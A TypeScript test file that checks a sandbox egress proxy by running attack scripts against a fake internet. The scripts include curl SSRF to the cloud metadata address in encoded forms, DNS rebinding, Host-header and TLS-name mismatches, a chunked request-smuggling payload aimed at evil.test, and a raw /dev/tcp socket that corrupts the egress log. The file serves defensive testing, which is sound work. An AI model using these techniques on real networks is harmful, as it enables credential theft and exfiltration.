/**
 * Attempts to get past the egress proxy from inside a real sandbox. Each must fail with the real
 * runner, and work with one whose source lacks the defence (that half only on request).
 */
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { assert } from "#shared/core/assert";
import { jobEnvironment } from "#shared/protocol/job";
import { gatewayPaths } from "#shared/protocol/runner";
import { claimFor, type FakeGateway } from "../kit/sandbox/gateway.ts";
import { execute } from "../kit/sandbox/host.ts";
import { runnerPrograms } from "../kit/sandbox/programs.ts";
import { allowing, publicAddress, TestInternet } from "../kit/sandbox/test-internet.ts";
import { sharedOut, triesEveryRow } from "../kit/shard.ts";
import { egressDefences } from "./support/egress-defences.ts";

/** Paths that any server was asked for. */
const arrived = new Set<string>();
const metadata = "169.254.169.254";
const inner = "10.0.0.1";
const internet = new TestInternet({
  names: {
    "allowed.test": [[publicAddress]],
    "other.test": [[publicAddress]],
    "rebound.test": [[publicAddress], [metadata]],
    "inside.test": [[inner]],
  },
  serve: (request, response) => {
    arrived.add(request.url ?? "");
    if (request.url === "/leave") return void request.socket.destroy();
    if (request.url !== "/redirect") return void response.end(`hello from ${request.headers.host}`);
    response.writeHead(302, { location: `http://${metadata}/hello` }).end();
  },
});
const listed = allowing("allowed.test:443", "allowed.test:80", "rebound.test:80", "inside.test:80");
const open: Attempt["network"] = { mode: "internet", allow: [] };

beforeAll(async () => void (await internet.open()));
afterAll(() => internet.close());

/** Internal addresses are served too, so that only the proxy prevents access. */
function environment(): Record<string, string> {
  const name = jobEnvironment.testNetwork;
  const told = JSON.parse(internet.environment[name] ?? "");
  const web = `127.0.0.1:${internet.localPort(80)}`;
  const dial = { ...told.dial, [`${metadata}:80`]: web, [`${inner}:80`]: web };
  return { [name]: JSON.stringify({ ...told, dial }) };
}

interface Attempt {
  readonly name: string;
  readonly control: string;
  readonly network: Parameters<TestInternet["claim"]>[0];
  readonly script: string;
  /** By default, an attempt escapes if it prints the server's hello. */
  readonly escaped?: (gateway: FakeGateway) => boolean;
  /** Prepares the gateway. */
  readonly prepare?: (gateway: FakeGateway) => void;
  readonly behind: readonly (keyof typeof egressDefences)[];
}

/** Speaks HTTP by hand in a tunnel to a host with a bound secret. */
const byHand = (...requests: readonly string[]) => `node -e '
const s = require("net").connect(3128, "127.0.0.1");
s.write("CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n");
s.once("data", () => {
  const options = { socket: s, servername: "allowed.test", rejectUnauthorized: false };
  const t = require("tls").connect(options, () => t.write(${JSON.stringify(requests.join(""))}));
  t.on("error", () => {}).on("data", () => {}).on("close", () => console.log("curl says bye"));
});'`;
const toBound = (line: string, rest = "") =>
  `${line} HTTP/1.1\r\nHost: allowed.test\r\n${rest}\r\n`;
const hidden = "POST /smuggled HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 0\r\n\r\n";
const inChunks = `${hidden.length.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`;

const inwards = [
  "every answer is looked at",
  "addresses inside are refused by themselves",
] as const;

const attempts: readonly Attempt[] = [
  {
    name: "a name that leads elsewhere the second time",
    control: "EXE-6",
    network: listed,
    script: "curl -s http://rebound.test/ >/dev/null; curl -s http://rebound.test/",
    behind: ["every answer is looked at"],
  },
  {
    name: "a listed name that leads inside",
    control: "EXE-6",
    network: listed,
    script: "curl -s http://inside.test/",
    behind: ["every answer is looked at"],
  },
  ...["169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518"].map(
    (host): Attempt => ({
      name: `the metadata server as ${host}`,
      control: "EXE-6",
      network: open,
      script: `curl -s --noproxy '' http://${host}/`,
      behind: inwards,
    }),
  ),
  {
    name: "a private address",
    control: "EXE-6",
    network: open,
    script: `curl -s --noproxy '' http://${inner}/`,
    behind: inwards,
  },
  {
    name: "a redirect to the metadata server",
    control: "EXE-6",
    network: open,
    script: "curl -sL --noproxy '' http://allowed.test/redirect",
    behind: inwards,
  },
  {
    name: "a host that isn't listed",
    control: "NET-2",
    network: listed,
    script: "curl -s https://other.test/",
    behind: ["the list of hosts"],
  },
  {
    name: "CONNECT to a listed host, TLS for another",
    control: "NET-2",
    network: listed,
    script: "curl -s --connect-to other.test:443:allowed.test:443 https://other.test/",
    behind: ["TLS names the host that was asked for"],
  },
  {
    name: "a listed host asked for, another in the Host header",
    control: "NET-2",
    network: listed,
    script: "curl -s -H 'Host: other.test' http://allowed.test/",
    behind: ["Host is the host that was asked for"],
  },
  {
    name: "CONNECT to an address instead of a name",
    control: "NET-2",
    network: listed,
    script: `curl -s --connect-to allowed.test:443:${publicAddress}:443 https://allowed.test/`,
    behind: ["names alone are listed", "TLS names the host that was asked for"],
  },
  {
    name: "a request in the body of one to a host of a secret",
    control: "NET-5",
    network: listed,
    script: byHand(
      toBound("GET /a", "Transfer-Encoding: chunked\r\n") + inChunks,
      toBound("GET /b", "Connection: close\r\n"),
    ),
    escaped: () => arrived.delete("/smuggled"),
    behind: [
      "chunks stay chunks, whatever the method",
      "a connection ends with a body that its method hasn't",
    ],
  },
  {
    name: "an attempt that spoils the log of the others",
    control: "NET-6",
    network: listed,
    script: `curl -s http://other.test/
      (exec 3<>/dev/tcp/127.0.0.1/3128 && printf 'CONNECT a.test:99999 HTTP/1.1\\r\\nHost: a.test:99999\\r\\n\\r\\n' >&3 &&
      head -c 20 <&3); echo curl says bye`,
    escaped: ({ egress }) => !egress.some(({ host }) => host === "other.test"),
    behind: [
      "a port beyond the last is none",
      "the log takes what can be stored",
      "a batch that is refused is split",
    ],
  },
  {
    name: "what leaves while nobody records it",
    control: "NET-6",
    network: listed,
    script: "curl -s http://allowed.test/",
    prepare: ({ failures }) => failures.set(gatewayPaths.egress, { status: 401, times: 99 }),
    behind: ["what isn't stored isn't made"],
  },
  {
    name: "requests sent ahead to a host that leaves",
    control: "NET-6",
    network: listed,
    script: byHand(toBound("GET /leave"), toBound("GET /leave")),
    escaped: ({ settled }) => settled === undefined,
    behind: ["a host that has gone is told, not thrown", "what nobody catches ends one execution"],
  },
];

/** Other commits try the rest. */
const now = sharedOut(attempts, 2);
const rows: string[] = [];
const counts = { contained: 0, effective: 0 };
afterAll(() => {
  const [total, tried] = [now.length, triesEveryRow ? now.length : 0];
  const counted = `${counts.contained}/${total} contained, ${counts.effective}/${tried} effective`;
  console.log([...rows, `${counted} without the defence`].join("\n"));
});

describe.each(["EXE-6", "NET-2", "NET-5", "NET-6"])("%s past the proxy", (control) => {
  const own = now.filter((attempt) => attempt.control === control);

  test.concurrent.for(own)("$name", { timeout: 120_000 }, async (attempt, { expect }) => {
    const { behind } = attempt;
    const full = await escapes(attempt, []);
    const alone: string[] = [];
    for (const name of triesEveryRow && behind.length > 1 ? behind : []) {
      const others = behind.filter((other) => other !== name);
      if (await escapes(attempt, others)) alone.push(name);
    }
    const freed = triesEveryRow ? await escapes(attempt, behind) : null;
    if (!full && alone.length === 0) counts.contained += 1;
    if (freed) counts.effective += 1;
    const held = full ? "NOT CONTAINED" : "contained";
    const works = freed === null ? "not tried" : freed ? "effective" : "NOT EFFECTIVE";
    const without = `without: ${behind.join(" + ")}`;
    rows.push([control, attempt.name.padEnd(44), held, works, without].join("  "));
    expect({ full, alone }).toEqual({ full: false, alone: [] });
    expect(freed ?? true).toBe(true);
  });
});

test("NET-6 an error that nobody catches ends one execution, which is settled", async () => {
  const leaving = attempts.find(({ name }) => name === "requests sent ahead to a host that leaves");
  assert(leaving !== undefined);
  expect(await escapes(leaving, ["a host that has gone is told, not thrown"])).toBe(false);
});

/** Whether it reaches the server through a runner that lacks `missing`. */
async function escapes(
  { control, network, script, prepare, escaped }: Attempt,
  missing: readonly (keyof typeof egressDefences)[],
): Promise<boolean> {
  const programs = await runnerPrograms(...missing.map((name) => egressDefences[name]));
  const secret = { key: "KEY", value: "a-secret-of-the-owner", headers: ["x-key"] };
  const isBound = control === "NET-5" || control === "NET-6";
  const boundSecrets = isBound ? [{ ...secret, hosts: ["allowed.test"] }] : [];
  const claimed = { ...internet.claim(network), boundSecrets };
  const claim = claimFor(`${script} || echo "curl says $?"`, claimed);
  const program = join(programs, "launcher.cjs");
  const options = { program, environment: environment(), ...(prepare && { prepare }) };
  const { gateway } = await execute(claim, "userns", options);
  if (escaped?.(gateway)) return true;
  const output = gateway.settled?.output ?? "";
  // Expects a refusal or curl's error, because silence would mean that nothing was tried.
  expect(output).toMatch(/hello from|"rule":|curl says|the runner had a problem/);
  return escaped === undefined && output.includes("hello from");
}
